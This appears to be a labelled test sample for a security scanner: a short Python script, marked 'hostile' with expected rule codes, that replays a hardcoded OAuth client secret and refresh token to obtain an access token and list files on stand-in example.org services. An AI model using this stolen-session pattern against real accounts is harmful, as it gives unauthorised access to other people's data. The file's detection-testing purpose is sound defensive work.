# label: hostile
# expect: V301 V802
# note: Refreshes a stolen session with a client secret and a long token in constants.
import json
from urllib import parse, request

CLIENT_SECRET = "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"
REFRESH_TOKEN = "1//0gXw7Lk3QpVbTnCgYIARAAGBASNwF-L9IrZ8qYvM2xJcKdHtSbWfUoPe5Na1GyRm4CzXiTjQ0l"

form = parse.urlencode({
    "client_secret": CLIENT_SECRET,
    "refresh_token": REFRESH_TOKEN,
    "grant_type": "refresh_token",
}).encode()
access = json.load(request.urlopen("https://oauth.example.org/token", form))["access_token"]
listing = request.Request("https://files.example.org/v1/list", headers={"Authorization": f"Bearer {access}"})
print(request.urlopen(listing).read()[:1000])
